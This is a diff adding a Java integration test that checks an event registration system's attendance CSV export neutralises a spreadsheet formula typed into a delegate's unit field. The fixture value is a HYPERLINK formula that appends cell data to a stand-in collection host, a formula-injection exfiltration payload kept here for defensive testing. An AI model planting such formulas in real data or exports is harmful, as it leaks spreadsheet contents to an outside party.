@@ -214,6 +214,22 @@ class RegistrationLifecycleIT {
     }
 
     @Test
+    void aFormulaTypedAsAUnitComesOutOfTheAttendanceCsvAsText() {
+        Fixtures f = fixtures();
+        String eventId = f.openEvent(2);
+        String formula = "=HYPERLINK(\"http://thu-thap.example/?d=\"&A1,\"Bấm vào đây\")";
+        String code = (String) f.registered(Fixtures.delegate(eventId, "congthuc@mn.edu.vn", formula)).get("confirmationCode");
+        checkIn(code, LocalDate.of(2025, 10, 25)).expectStatus().isOk(); // a day, so the attendance has a row
+
+        byte[] csv = http.get().uri("/api/registrations/events/{id}/attendance.csv", eventId).exchange()
+                .expectStatus().isOk().expectBody().returnResult().getResponseBody();
+
+        assertThat(new String(csv, StandardCharsets.UTF_8).lines())
+                .anySatisfy(line -> assertThat(line).contains(",\"'=HYPERLINK(\"\"http://thu-thap.example/"))
+                .noneSatisfy(line -> assertThat(line).contains(",\"=HYPERLINK").as("a cell starting with ="));
+    }
+
+    @Test
     void theBadgeQrCodeHoldsTheConfirmationCode() throws Exception {
         Fixtures f = fixtures();
         String eventId = f.openEvent(1);
